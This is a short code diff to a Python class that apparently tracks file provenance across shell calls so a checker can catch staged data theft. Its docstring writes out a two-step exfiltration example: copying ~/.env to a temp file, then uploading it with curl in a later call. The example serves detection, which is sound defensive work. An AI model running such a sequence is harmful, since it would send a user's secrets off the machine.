@@ -432,7 +432,7 @@ class Memory:
         across calls: `cp ~/.env /tmp/n` now, `curl -T /tmp/n URL` in the next call). An append adds
         its producer to the one the file had."""
         appended = {w.path for w in parsed.writes if w.append}
-        made = files_made_with_writer(parsed.commands, every_archive=True)
+        made = files_made_with_writer(parsed.commands, every_archive=True, computed=parsed.computed)
         seen = {t for t, _, _ in made}
         for w in parsed.writes[:64]:
             # written by a program with no known producer (xxd, split, sed's `w`, awk's `print >`, code
